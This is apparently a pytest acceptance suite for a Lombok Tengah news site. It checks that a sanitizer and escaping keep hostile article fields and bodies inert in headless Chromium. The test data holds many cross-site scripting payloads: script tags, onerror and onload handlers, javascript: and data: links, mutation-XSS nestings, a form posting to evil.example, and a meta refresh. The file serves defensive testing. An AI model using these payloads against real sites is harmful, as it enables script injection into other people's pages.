"""Issue 11's acceptance test: a corpus of hostile but realistic articles is
built, and no script runs in Chromium on any page of it.

Every field the build accepts (title, Sorotan, Ringkasan, Keterangan_foto,
Kredit_foto, Dateline, Tag, Sumber, people's names and bios, a page title)
holds quotes, ampersands, ``<`` and ``>`` as text (``< /script>``, ``<5``),
attribute break-outs, RTL Arabic and Hebrew with their direction marks, emoji
and zero-width characters;
the bodies hold the raw HTML an attacker (or a careless paste) would bring.
Each page is opened in headless Chromium, with the handlers of every element
provoked, and must raise no dialog, no error and no CSP violation. Field
values ``check`` refuses (markup, a half-open tag such as ``</script``, a bidi
override) cannot be built: their refusal is tested in
tests/test_security_escape.py (test_check_refuses_markup_with_file_line_field_and_fix,
test_markup_in_a_page_title_and_in_the_people_registry_is_refused); the few
fields it does not cover are below. A second build turns the plain-text check
off, as if it ever missed something, and shows that escaping alone keeps
truly hostile field values inert.
"""

from __future__ import annotations

import importlib
import json
import xml.etree.ElementTree as ET

import feedparser
import lxml.html
import pytest
from bs4 import BeautifulSoup

from portal.browser import watch
from portal.check import check_content
from tests.conftest import PEOPLE, ROOT, SETTINGS, ContentFolder, Site, fast_build

NOW = "2026-08-30 15:00"
ZWJ, ZWSP, ZWNJ, RLM, LRM = "\u200d", "\u200b", "\u200c", "\u200f", "\u200e"
FAMILY = f"👨{ZWJ}👩{ZWJ}👧"  # one glyph, three emoji joined by zero-width joiners
CODER = f"👩🏽{ZWJ}💻"

# --- The corpus: every value below passes `check` (it is text, not markup) ----
PERSON = f"Baiq \"Ina\" O'Neil & Tim <3 > 2 {CODER}"
BIO = f'Pewarta " onmouseover="alert(3)" x=" & < img src=x tanpa penutup < /script> {RLM}שלום עולם{RLM} 🎉'

QUOTES = {  # the lead hostile article, split into two pages
    "Title": "Bupati: \"Internet Desa Bukan Judi\" & Tarif <5 Ribu, Kata 'Warga' < /script> 🎉",
    "Highlight": "Sorotan \" onmouseover=\"alert(1)\" x=\" & 'kutip' < img src=x onerror=alert(1) tanpa penutup >",
    "Summary": f"Ringkasan < script> & 'kutip' {RLM}مرحبا بكم في لومبوك{RLM} — שלום {FAMILY} ze{ZWSP}ro",
    "Image": "images/foto/contoh.jpg",
    "Image_caption": "Warga antre di \"MPP\" \" onmouseover=\"alert(2)\" & loket < 5 > 2 ' onfocus='alert(2)",
    "Image_credit": f"DISKOMINFO LOTENG/SINTO < /span> {CODER}",
    "Dateline": "PRAYA & \"SEKITARNYA\" < /script>",
    "Source": "Humas & Protokol \"Setda\" < Loteng > 'resmi' https://setda.lomboktengahkab.go.id/siaran?a=1&b=2",
    "Tags": ", ".join(['Desa "Digital"', "a < b & c > d", "مرحبا", "שלום עולם", "🎉 pesta", f"ze{ZWJ}ro"]),
    "Author": PERSON,
    "Reporter": PERSON,
    "Featured": "yes",
}
RTL = {  # Arabic and Hebrew in every field, with direction marks (RLM, LRM) and joined emoji
    "Title": f"مهرجان باو نيالي — פסטיבל {FAMILY} Bau Nyale \"2026\" & 'Putri' <3",
    "Highlight": f"{RLM}احتفال \"الشاطئ\" & 'البحر'{RLM} — {LRM}Kuta{LRM} {RLM}terbalik{LRM} < 5 > 3 {CODER}",
    "Summary": f"סיכום & \"ציטוט\" < b tanpa penutup > — نيالي{ZWNJ}ها 🌊",
    "Category": "Desa Digital",
    "Image": "images/foto/contoh.jpg",
    "Image_caption": f"الصيادون \" onmouseover=\"alert(4)\" & הדייגים < i > {FAMILY}",
    "Image_credit": f"ديسكومينفو & \"לוטנג\" < /a> {ZWJ}",
    "Dateline": "كوتا & \"KUTA\"",
    "Source": f"وكالة \"الأنباء\" & סוכנות <3 {FAMILY}",
    "Tags": ", ".join(["بحر نيالي", "🌊 laut", f"Bau{ZWNJ}Nyale", "עברית"]),
    "Author": PERSON,
}
PAGE_TITLE = f"Profil \"Diskominfo\" & Tugas <5 'x' 🎉 عربي {RLM}שלום{RLM}"

# --- Raw HTML in the bodies: every one must be removed or made harmless ------
BODY_QUOTES = """
Paragraf pembuka tentang internet desa dan layanan digital warga Praya yang antre di loket.

<script>alert(1)</script>

<img src=x onerror=alert(1)>

<svg onload=alert(1)><circle r="3"/></svg>

Tautan <a href="javascript:alert(1)">skrip</a>, <a href="data:text/html,<script>alert(1)</script>">data</a>,
<a href="JaVaScRiPt:alert(1)">campur</a> dan <a href="jav&#x09;ascript:alert(1)">tab</a>.

<iframe src="https://evil.example/"></iframe>

<iframe src="https://www.youtube-nocookie.com/embed/xyz" title="Video"></iframe>

<style>body{display:none}</style>

<form action="https://evil.example/curi"><input name="nik" autofocus onfocus="alert(1)">
<button formaction="javascript:alert(1)">Kirim</button></form>

<object data="javascript:alert(1)"></object>

Teks &lt;img src=x onerror=alert(1)&gt; sebagai tulisan, dan a < b & c > d, "kutip" dan 'kutip'.

<!-- halaman -->

Paragraf halaman kedua tentang internet desa, masih tentang layanan digital warga.

<details open ontoggle=alert(1)><summary>Rincian</summary>Isi rincian.</details>

<p style="background:url(javascript:alert(1))" onmouseover="alert(1)">Arahkan tetikus ke sini.</p>

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=javascript:alert(1)">

<link rel="stylesheet" href="https://evil.example/x.css">

<embed src="javascript:alert(1)">

Paragraf penutup tentang internet desa.
"""
BODY_RTL = f"""
مهرجان باو نيالي في كوتا، פסטיבל על חוף הים {FAMILY}, warga Lombok Tengah menangkap nyale di pantai.

<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>

<template><script>alert(1)</script></template>

<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>

<svg><style><img src=x onerror=alert(1)></style></svg>

Baca [tautan jahat](javascript:alert(1)) dan [tautan data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).

![gambar jahat](data:image/svg+xml,%3Csvg%20xmlns%3D%22http://www.w3.org/2000/svg%22%20onload%3D%22alert(1)%22/%3E)

<a href="https://lomboktengahkab.go.id/" target="_blank">tab baru</a>

<iframe srcdoc="<script>alert(1)</script>"></iframe>

<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>

<iframe src="https://www.youtube-nocookie.com/embed/../../evil"></iframe>

<a href="https://www.youtube-nocookie.com/embed/xyz" onclick="alert(1)">video</a>

Penutup: nyale ditangkap warga {RLM}שלום{RLM} dan {FAMILY}.
"""
BODY_PLAIN = """
Warga Praya antre sejak pagi di loket desa untuk layanan internet desa dan layanan digital.

Petugas melayani dengan sabar; nyale dan festival Bau Nyale juga dibicarakan warga.
"""
PAGE_BODY = """
Profil dinas.

<script>alert(1)</script>

<iframe src="https://evil.example/"></iframe>

<a href="javascript:alert(1)" onmouseover="alert(1)">kontak</a>
"""

HOSTILE_PEOPLE = PEOPLE + f"""
[[person]]
name = {json.dumps(PERSON, ensure_ascii=False)}
slug = "ina"
roles = ["penulis", "wartawan"]
bio = {json.dumps(BIO, ensure_ascii=False)}
"""
QUOTES_URL = "/berita/2026/08/30/kutipan/"
RTL_URL = "/berita/2026/08/29/nyale/"
PLAIN_URL = "/berita/2026/08/28/biasa/"
PAGE_URL = "/profil/"
PERSON_URL = "/penulis/ina/"
SEARCH_WORD = "onmouseover"  # in the Sorotan and captions of both hostile articles


def _build(base, content: ContentFolder) -> Site:
    output = base / "output"
    fast_build(SETTINGS, output, {"PATH": str(content.root), "CACHE_PATH": str(base / "cache"),
                                  "DISTRIBUSI_NOW": NOW}, search=True)
    return Site(output)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Site:
    """The hostile corpus, built once."""
    base = tmp_path_factory.mktemp("hostile")
    content = ContentFolder(base / "content")
    (content.root / "people.toml").write_text(HOSTILE_PEOPLE, encoding="utf-8")
    content.article("kutipan", BODY_QUOTES, **QUOTES)
    content.article("nyale", BODY_RTL, Date="2026-08-29 09:00", **RTL)
    content.article("biasa", BODY_PLAIN, Date="2026-08-28 10:00", Title="Warga Antre Internet Desa",
                    Related="kutipan, nyale", Tags="internet desa")
    content.page("profil", PAGE_TITLE, PAGE_BODY)
    return _build(base, content)


# --- If check ever missed it: truly hostile field values reach the templates ---
DEFENCE = {
    "Title": "Bupati <img src=x onerror=alert(11)> Resmikan",
    "Highlight": "<script>alert(12)</script> Sorotan",
    "Summary": "<svg onload=alert(13)> Ringkasan",
    "Image": "images/foto/contoh.jpg",
    "Image_caption": '" onmouseover="alert(14)" x="',
    "Image_credit": "</span><script>alert(15)</script>",
    "Dateline": "</p><script>alert(16)</script>",
    "Source": "javascript:alert(17) <a href=javascript:alert(18)>klik</a>",
    "Tags": "<script>alert(19)</script>, <b onmouseover=alert(20)>tebal</b>",
    "Author": "Bahaya <img src=x onerror=alert(21)>",
}
DEFENCE_BIO = '"><script>alert(22)</script><img src=x onerror=alert(23)>'
DEFENCE_PAGE_TITLE = "</title><script>alert(24)</script>"
DEFENCE_URL = "/berita/2026/08/30/lolos/"


def _plain_text_check_off(monkeypatch) -> None:
    """Make every plain-text rule say "no problem", in the plugin modules the build uses."""
    from pelican.plugins._utils import load_legacy_plugin

    load_legacy_plugin("newsroom", [str(ROOT / "plugins")])  # the very module objects Pelican will use
    plaintext = importlib.import_module("newsroom.plaintext")
    people = importlib.import_module("newsroom.people")
    monkeypatch.setattr(plaintext, "markup_problem", lambda value: None)
    monkeypatch.setattr(plaintext, "link_problem", lambda value: None)
    monkeypatch.setattr(people, "markup_problem", lambda value: None)


@pytest.fixture(scope="module")
def defence(tmp_path_factory) -> Site:
    """If check ever missed it: the plain-text check off, markup in every field."""
    base = tmp_path_factory.mktemp("defence")
    content = ContentFolder(base / "content")
    people = HOSTILE_PEOPLE + f"""
[[person]]
name = {json.dumps(DEFENCE["Author"])}
slug = "bahaya"
roles = ["penulis"]
bio = {json.dumps(DEFENCE_BIO)}
"""
    (content.root / "people.toml").write_text(people, encoding="utf-8")
    content.article("lolos", "Isi berita tentang internet desa.", **DEFENCE)
    content.page("profil", DEFENCE_PAGE_TITLE)
    with pytest.MonkeyPatch.context() as monkeypatch:
        _plain_text_check_off(monkeypatch)
        return _build(base, content)


# --- In Chromium ----------------------------------------------------------------

# Every event an inline handler could wait for; dispatched on every element
# (never "click" or "submit": those would navigate away).
PROVOKE = """() => {
  const events = ["mouseover", "mouseenter", "mousemove", "mouseout", "mouseleave", "mousedown", "mouseup",
    "pointerover", "pointerenter", "pointerdown", "focus", "focusin", "blur", "keydown", "keyup", "input", "change",
    "toggle", "load", "error", "animationstart", "animationend", "transitionend", "wheel", "scroll", "copy",
    "beforeprint", "show", "invalid"];
  for (const element of document.querySelectorAll("*")) {
    for (const type of events) element.dispatchEvent(new Event(type, {bubbles: true, cancelable: true}));
  }
}"""

# What a page holds that could run code or load another origin; judged in Python.
AUDIT = """() => {
  const attributes = [];
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase(), value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, "");
      if (name.startsWith("on") || name === "srcdoc" || name === "style"
          || (/^(href|src|action|formaction|data|xlink:href|poster|background|content)$/.test(name)
              && /^(javascript|vbscript|data):/i.test(value))) {
        attributes.push(`<${element.localName} ${name}="${attribute.value}">`);
      }
    }
  }
  const list = (selector, read) => Array.from(document.querySelectorAll(selector), read);
  return {
    attributes,
    scripts: list("script", s => ({src: s.getAttribute("src"), type: s.getAttribute("type"),
                                   text: s.getAttribute("src") ? "" : s.textContent})),
    frames: list("iframe, frame, object, embed, portal, applet", e => `${e.localName} ${e.getAttribute("src")}`),
    others: list("style, base, svg, math, template, noscript, "
                 + "meta[http-equiv]:not([http-equiv='Content-Security-Policy'])", e => e.localName),
    stylesheets: list("link[rel~='stylesheet']", l => l.href),
    forms: list("form", f => f.action),
  };
}"""

# Elements that carry text from fields: hovered (and clicked where that does not navigate).
FIELD_TEXT = ["h1", ".highlight", ".lead-photo img", ".lead-photo figcaption", ".credit", ".dateline", ".byline a",
              ".laporan a", ".sumber", ".tags a", ".card-title a", ".rekomendasi a", ".baca-juga a", ".bio",
              ".site-nav a", "footer a", "#cari-hasil a", "#cari-hasil .card-meta"]
CLICKED = ["h1", ".highlight", ".lead-photo figcaption", ".dateline", ".bio", ".article-body a:not([href])"]
# The centre of the first three elements of each selector that a reader can
# point at (not visually hidden), and whether to click there.
TARGETS = """([hovered, clicked]) => [...hovered.map(s => [s, false]), ...clicked.map(s => [s, true])].flatMap(
  ([selector, click]) => Array.from(document.querySelectorAll(selector)).flatMap(e => {
    const box = e.getBoundingClientRect();
    return box.width > 2 && box.height > 2 && getComputedStyle(e).visibility === "visible"
      ? [[box.x + box.width / 2, box.y + box.height / 2, click]] : [];
  }).slice(0, 3))"""
VIEWPORT = {"width": 1280, "height": 3000}  # taller than the longest page of the corpus
TRUSTED_EMBED = "https://www.youtube-nocookie.com/embed/xyz"


class Watch:
    """What a page does that it must not: dialogs, errors, CSP violations, a
    navigation away; requests leaving this machine are aborted, never sent."""

    def __init__(self, page, base: str):
        self.page, self.base = page, base
        self.seen = watch(page, local=(base,), keep_console=self._counts)

    def _counts(self, message) -> bool:
        if message.type not in ("error", "warning") and not message.text.startswith("Refused"):
            return False
        url = message.location.get("url", "")
        # A body may hold <img src="x"> (a local address, kept): the browser
        # reports the missing file, which is no script.
        return not (message.text.startswith("Failed to load resource") and url.startswith(self.base)
                    and url.endswith("/x"))

    def visit(self, url: str, ready: str | None = None) -> dict:
        """Open URL (and wait for READY), provoke every handler, hover and click field text; the page's audit."""
        page = self.page
        page.goto(self.base + url, wait_until="load")
        if ready:
            page.wait_for_selector(ready, timeout=15000)
            page.wait_for_load_state("networkidle")
        # A real pointer over (and a click on) field text: the page is tall
        # enough (VIEWPORT) for every target to be in view without scrolling.
        for x, y, click in page.evaluate(TARGETS, [FIELD_TEXT, CLICKED]):
            assert y < VIEWPORT["height"], f"{url}: make VIEWPORT taller"
            page.mouse.click(x, y) if click else page.mouse.move(x, y)
        page.evaluate(PROVOKE)
        page.wait_for_timeout(50)  # a timer or a refresh would fire now
        assert page.url == self.base + url, f"{url} navigated to {page.url}"
        return page.evaluate(AUDIT)


def _own_scripts(scripts: list[dict], url: str) -> list[dict]:
    """The scripts that are not the theme's own: portal.js, luring.js, cari.js
    (loads Pagefind), one JSON-LD block, the inline scripts the CSP allows by hash."""
    from newsroom.csp import INLINE_SCRIPTS

    # The theme's files are linked with ?v=<hash of the file> (versioned assets, issue 18).
    own = [{"src": "/theme/js/portal.js", "type": None, "text": ""},
           {"src": "/theme/js/luring.js", "type": None, "text": ""}]
    own += [{"src": None, "type": None, "text": text} for text in INLINE_SCRIPTS.values()]
    if url.startswith("/cari/"):
        own.append({"src": "/theme/js/cari.js", "type": "module", "text": ""})
    unversioned = [{**s, "src": s["src"].split("?v=", 1)[0]} if s["src"] else s for s in scripts]
    others = [s for s in unversioned if s not in own and s["type"] != "application/ld+json"]
    assert sum(s["type"] == "application/ld+json" for s in scripts) <= 1, url
    return others


def _every_page(site: Site) -> list[str]:
    return [site.url_of(file) for file in site.html_files() if not site.url_of(file).startswith("/pagefind/")]


SEARCH = f"/cari/?q={SEARCH_WORD}"
RESULTS = """() => Array.from(document.querySelectorAll("#cari-hasil li"), li => ({
    title: li.querySelector(".card-title a").textContent, excerpt: li.querySelector("p.card-snippet").textContent,
    elements: Array.from(li.querySelectorAll("*"), e => e.localName)}))"""


def _check_pages(browser, site: Site, urls: list[str], **context) -> dict[str, dict]:
    """Open URLS and a search in one browser context; every page's audit (and
    the search's results), after asserting that nothing ran anywhere."""
    from portal.browser import serve_folder

    audits, seen = {}, []
    browser_context = browser.new_context(viewport=VIEWPORT, **context)
    try:
        page = browser_context.new_page()
        with serve_folder(site.output) as base:
            watch = Watch(page, base)
            for url in [*urls, SEARCH]:
                before = len(watch.seen)
                audits[url] = watch.visit(url, ready="#cari-hasil li a" if url == SEARCH else None)
                seen += [f"{url}: {s}" for s in watch.seen[before:]]
            audits[SEARCH]["results"] = page.evaluate(RESULTS)
    finally:
        browser_context.close()
    assert seen == []
    return audits


@pytest.fixture(scope="module")
def hostile_in_chromium(browser, hostile) -> dict[str, dict]:
    """Every page of the hostile corpus opened in Chromium with its CSP: the audits."""
    return _check_pages(browser, hostile, _every_page(hostile))


def test_no_script_runs_on_any_page_of_the_hostile_corpus(hostile, hostile_in_chromium):
    pages = _every_page(hostile)
    kinds = {"/", QUOTES_URL, QUOTES_URL + "2/", QUOTES_URL + "semua/", RTL_URL, PLAIN_URL, "/rubrik/pemerintahan/",
             "/tag/mrhb/", "/tag/shlvm-vlm/", "/tag/pesta/", "/tag/zero/", PERSON_URL, "/arsip/", PAGE_URL,
             "/404.html"}
    assert kinds <= set(pages), kinds - set(pages)
    for url, audit in hostile_in_chromium.items():
        assert audit["attributes"] == [], url
        # the theme's own <noscript> notices
        assert audit["others"] == (["noscript"] if url.startswith(("/cari/", "/luring/")) else []), url
        assert _own_scripts(audit["scripts"], url) == [], url
        assert all(href.split("?v=", 1)[0].endswith("/theme/css/portal.css") for href in audit["stylesheets"]), url
        assert all(action.endswith("/cari/") for action in audit["forms"]), url
    frames = {url: audit["frames"] for url, audit in hostile_in_chromium.items() if audit["frames"]}
    assert frames == {QUOTES_URL: [f"iframe {TRUSTED_EMBED}"], QUOTES_URL + "semua/": [f"iframe {TRUSTED_EMBED}"]}


def test_what_the_bodies_keep_is_their_text(hostile):
    quotes = hostile.soup(QUOTES_URL + "semua/").select_one(".article-body")
    assert "Teks <img src=x onerror=alert(1)> sebagai tulisan, dan a < b & c > d" in quotes.get_text()
    assert [a.get_text() for a in quotes.select("a:not([href])")] == ["skrip", "data", "campur", "tab"]
    assert "Arahkan tetikus ke sini." in quotes.get_text() and "Paragraf penutup" in quotes.get_text()
    rtl = hostile.soup(RTL_URL).select_one(".article-body")
    assert [a.get_text() for a in rtl.select("a:not([href])")] == ["tautan jahat", "tautan data"]
    video = rtl.find("a", string="video")
    assert video.attrs == {"href": TRUSTED_EMBED}  # a plain https link keeps its address, loses its handler
    assert f"Penutup: nyale ditangkap warga {RLM}שלום{RLM} dan {FAMILY}." in rtl.get_text()
    assert rtl.select_one('a[target="_blank"]')["rel"] == ["noopener"]
    assert "alert" not in hostile.path(PAGE_URL).read_text(encoding="utf-8").split("<main", 1)[1]


def test_search_results_show_hostile_text_as_text(hostile_in_chromium):
    """cari.js builds each result from text: Pagefind's excerpt becomes text and <mark> only, never markup."""
    results = {r["title"]: r for r in hostile_in_chromium[SEARCH]["results"]}
    assert set(results) == {QUOTES["Title"], RTL["Title"]}
    for result in results.values():
        # the card's own elements (thumbnail, date), and only <mark> from the excerpt
        assert set(result["elements"]) <= {"p", "h2", "a", "mark", "div", "img", "time"}, result
    assert QUOTES["Highlight"] in results[QUOTES["Title"]]["excerpt"]
    assert RTL["Image_caption"] in results[RTL["Title"]]["excerpt"]


# --- If check ever missed it: escaping alone keeps field markup inert ----------

def test_if_check_missed_it_escaping_alone_keeps_field_markup_inert(browser, defence):
    """The plain-text check is off for this build and the browser ignores the
    CSP (``bypass_csp``): a handler or script from a field would run and open
    a dialog. None does, on any page, hovered, clicked and provoked."""
    audits = _check_pages(browser, defence, _every_page(defence), bypass_csp=True)
    for url, audit in audits.items():
        assert audit["attributes"] == [] and _own_scripts(audit["scripts"], url) == [], url
        assert audit["others"] == (["noscript"] if url.startswith(("/cari/", "/luring/")) else []), url
    assert [r["title"] for r in audits[SEARCH]["results"]] == [DEFENCE["Title"]]


def test_if_check_missed_it_every_field_shows_as_its_text(defence):
    page = defence.soup(DEFENCE_URL)
    article = page.select_one("article.article")
    assert article.h1.get_text() == DEFENCE["Title"]
    assert article.select_one(".highlight").get_text() == DEFENCE["Highlight"]
    assert article.select_one(".lead-photo img")["alt"] == DEFENCE["Image_caption"]
    assert article.select_one(".lead-photo figcaption").get_text().startswith(DEFENCE["Image_caption"] + " ")
    assert article.select_one(".credit").get_text() == f"(Foto: {DEFENCE['Image_credit']})"
    assert article.select_one(".dateline").get_text() == DEFENCE["Dateline"].upper()
    assert article.select_one(".sumber").get_text() == f"Sumber: {DEFENCE['Source']}"
    assert article.select_one(".sumber a") is None  # javascript: is never made a link
    assert [a.get_text() for a in article.select(".tags a")] == DEFENCE["Tags"].split(", ")
    assert article.select_one(".byline a").get_text() == DEFENCE["Author"]
    person = defence.soup("/penulis/bahaya/")
    assert person.select_one(".bio").get_text() == DEFENCE_BIO
    assert defence.soup("/profil/").h1.get_text() == DEFENCE_PAGE_TITLE
    assert DEFENCE["Title"] in [a.get_text() for a in defence.soup("/").select(".card-title a, .headline-title a")]


# --- Every value parses back to exactly the field's text -------------------------

def _meta(tree, attribute: str, name: str) -> list[str]:
    return [element.get("content") for element in tree.xpath(f'//meta[@{attribute}="{name}"]')]


ARTICLES = {"quotes": (QUOTES_URL + "semua/", QUOTES), "quotes page 2": (QUOTES_URL + "2/", QUOTES),
            "rtl": (RTL_URL, RTL), "if check missed it": (DEFENCE_URL, DEFENCE)}


def _site(name: str, hostile, defence) -> Site:
    return defence if name == "if check missed it" else hostile


@pytest.mark.parametrize("name", ARTICLES)
def test_meta_og_and_twitter_values_parse_back_to_the_exact_text(hostile, defence, name):
    url, fields = ARTICLES[name]
    tree = lxml.html.fromstring(_site(name, hostile, defence).path(url).read_bytes())
    assert tree.findtext(".//title").startswith(fields["Title"] + " – ")
    for attribute, key in (("property", "og:title"), ("name", "twitter:title")):
        assert _meta(tree, attribute, key) == [fields["Title"]], key
    for attribute, key in (("name", "description"), ("property", "og:description"),
                           ("name", "twitter:description")):
        assert _meta(tree, attribute, key) == [fields["Highlight"]], key
    for attribute, key in (("property", "og:image:alt"), ("name", "twitter:image:alt")):
        assert _meta(tree, attribute, key) == [fields["Image_caption"]], key
    assert _meta(tree, "property", "article:tag") == fields["Tags"].split(", ")


def test_a_page_title_and_a_person_parse_back_to_the_exact_text(hostile, defence):
    for site, title in ((hostile, PAGE_TITLE), (defence, DEFENCE_PAGE_TITLE)):
        tree = lxml.html.fromstring(site.path(PAGE_URL).read_bytes())
        assert _meta(tree, "property", "og:title") == [title] and tree.findtext(".//h1") == title
        assert tree.findtext(".//title") == f"{title} – Warta Lombok Tengah"
    for site, url, name, bio in ((hostile, PERSON_URL, PERSON, BIO),
                                 (defence, "/penulis/bahaya/", DEFENCE["Author"], DEFENCE_BIO)):
        tree = lxml.html.fromstring(site.path(url).read_bytes())
        assert tree.findtext(".//h1").endswith(" " + name) and tree.find_class("bio")[0].text_content() == bio
        graph = json.loads(tree.xpath('//script[@type="application/ld+json"]')[0].text)["@graph"]
        [trail] = [node for node in graph if node["@type"] == "BreadcrumbList"]
        assert trail["itemListElement"][-1]["name"] == name
    for tag in QUOTES["Tags"].split(", ") + RTL["Tags"].split(", "):
        pages = [file for file in hostile.output.glob("tag/*/index.html")
                 if lxml.html.fromstring(file.read_bytes()).findtext(".//h1").endswith(f"“{tag}”")]
        assert len(pages) == 1, tag


@pytest.mark.parametrize("name", ARTICLES)
def test_json_ld_parses_and_holds_the_exact_text(hostile, defence, name):
    url, fields = ARTICLES[name]
    tree = lxml.html.fromstring(_site(name, hostile, defence).path(url).read_bytes())
    [script] = tree.xpath('//script[@type="application/ld+json"]')
    nodes = {node["@type"]: node for node in json.loads(script.text)["@graph"]}
    news = nodes["NewsArticle"]
    assert news["headline"] == fields["Title"] and nodes["WebPage"]["name"] == fields["Title"]
    assert nodes["BreadcrumbList"]["itemListElement"][-1]["name"] == fields["Title"]
    assert news["description"] == fields["Highlight"]
    assert news["keywords"] == fields["Tags"].split(", ")
    assert news["author"][0]["name"] == fields["Author"]
    assert news["locationCreated"]["name"] == fields["Dateline"].title()


def _feed_entry(site: Site, feed: str, url: str):
    parsed = feedparser.parse((site.output / "feeds" / feed).read_bytes())
    assert not parsed.bozo, parsed.get("bozo_exception")
    [entry] = [e for e in parsed.entries if e.link.endswith(url)]
    return entry


def _media(site: Site, feed: str, url: str) -> dict[str, str]:
    media = "{http://search.yahoo.com/mrss/}"
    for item in ET.parse(site.output / "feeds" / feed).iter():
        links = [link.get("href") or link.text or "" for link in item if link.tag.endswith("link")]
        if item.tag in ("item", "{http://www.w3.org/2005/Atom}entry") and any(x.endswith(url) for x in links):
            return {"credit": item.find(f".//{media}credit").text,
                    "caption": item.find(f".//{media}description").text}
    raise AssertionError(f"no entry for {url} in {feed}")


@pytest.mark.parametrize("feed", ["semua.atom.xml", "semua.rss.xml"])
@pytest.mark.parametrize("name", ["quotes", "rtl", "if check missed it"])
def test_feeds_parse_and_hold_the_exact_text(hostile, defence, name, feed):
    url, fields = ARTICLES[name]
    url = url.removesuffix("semua/")
    site = _site(name, hostile, defence)
    entry = _feed_entry(site, feed, url)
    assert entry.title == fields["Title"]
    assert BeautifulSoup(entry.summary, "html.parser").get_text() == fields["Summary"]
    assert entry.author == fields["Author"]
    assert [t.term for t in entry.tags][1:] == fields["Tags"].split(", ")
    assert _media(site, feed, url) == {"credit": fields["Image_credit"], "caption": fields["Image_caption"]}


def test_the_news_sitemap_holds_the_exact_titles(hostile):
    tree = ET.parse(hostile.output / "sitemap-berita.xml")
    titles = {t.text for t in tree.iter("{http://www.google.com/schemas/sitemap-news/0.9}title")}
    assert titles == {QUOTES["Title"], RTL["Title"]}


# --- check refuses markup: the fields tests/test_security_escape.py leaves out ---

def _errors(content: ContentFolder) -> list[str]:
    errors, _ = check_content(SETTINGS, {"PATH": str(content.root), "CACHE_PATH": str(content.root.parent / "c")})
    return errors


@pytest.mark.parametrize(("fields", "expected"), [
    ({"Ringkasan": DEFENCE["Summary"]}, "Ringkasan: berisi tag HTML `<svg onload=alert(13)>`"),
    ({"Dateline": DEFENCE["Dateline"]}, "Dateline: berisi tag HTML `</p>`"),
    ({"Tag": "desa, <b onmouseover=alert(20)>tebal</b>"}, "Tag: berisi tag HTML `<b onmouseover=alert(20)>`"),
    ({"Sumber": DEFENCE["Source"]}, "Sumber: berisi tag HTML `<a href=javascript:alert(18)>`"),
])
def test_check_refuses_markup_in_the_other_fields(content, fields, expected):
    content.article("berbahaya", **fields)
    [error] = _errors(content)
    assert error.startswith("articles/berbahaya.md:7: " + expected), error


def test_check_refuses_markup_in_a_person_name_and_a_page_title(content):
    (content.root / "people.toml").write_text(PEOPLE.replace('"Muhammad Rizal Hakim"', json.dumps(DEFENCE["Author"])),
                                              encoding="utf-8")
    content.page("profil", DEFENCE_PAGE_TITLE)
    errors = _errors(content)
    line = PEOPLE.splitlines().index('name = "Muhammad Rizal Hakim"') + 1
    assert any(e.startswith(f"people.toml:{line}: name: Bahaya <img src=x onerror=alert(21)>: name berisi tag HTML")
               for e in errors), errors
    assert any(e.startswith("pages/profil.md:1: Title: berisi tag HTML `</title>`") for e in errors), errors


# What the corpus once held as text: a "<" that opens a tag without its ">", and a bidi override.
OLD_BIO = 'Pewarta & <img src=x tanpa penutup </script'


@pytest.mark.parametrize(("fields", "line", "expected"), [
    ({"Title": "Bupati: \"Internet Desa\" & Tarif <5 Ribu </script 🎉"}, 1,
     "Title: berisi awal tag HTML `</script 🎉`"),
    ({"Sorotan": "Sorotan & <img src=x onerror=alert(1) tanpa penutup"}, 7,
     "Sorotan: berisi awal tag HTML `<img src=x onerror=alert(1) tanpa penut…`"),
    ({"Ringkasan": "Ringkasan <script & 'kutip'"}, 7, "Ringkasan: berisi awal tag HTML `<script & 'kutip'`"),
    ({"Dateline": 'PRAYA & "SEKITARNYA" </script'}, 7, "Dateline: berisi awal tag HTML `</script`"),
    ({"Sumber": "Humas <Loteng 'resmi'"}, 7, "Sumber: berisi awal tag HTML `<Loteng 'resmi'`"),
    ({"Tag": "desa, a<b & c"}, 7, "Tag: berisi awal tag HTML `<b & c`"),
    ({"Sorotan": f"{LRM}Kuta{LRM} \u202eterbalik\u202c"}, 7,
     f"Sorotan: berisi karakter pengatur arah teks U+202E yang tidak terlihat (setelah `{LRM}Kuta{LRM}`)"),
])
def test_check_refuses_a_half_open_tag_and_a_bidi_override(content, fields, line, expected):
    content.article("berbahaya", **fields)
    [error] = _errors(content)
    assert error.startswith(f"articles/berbahaya.md:{line}: {expected}"), error


def test_check_refuses_a_half_open_tag_in_a_bio(content):
    (content.root / "people.toml").write_text(PEOPLE.replace('"Redaktur."', json.dumps(OLD_BIO)), encoding="utf-8")
    line = PEOPLE.splitlines().index('bio = "Redaktur."') + 1
    [error] = _errors(content)
    assert error.startswith(f"people.toml:{line}: bio: Muhammad Rizal Hakim: bio berisi awal tag HTML "
                            "`<img src=x tanpa penutup </script`"), error
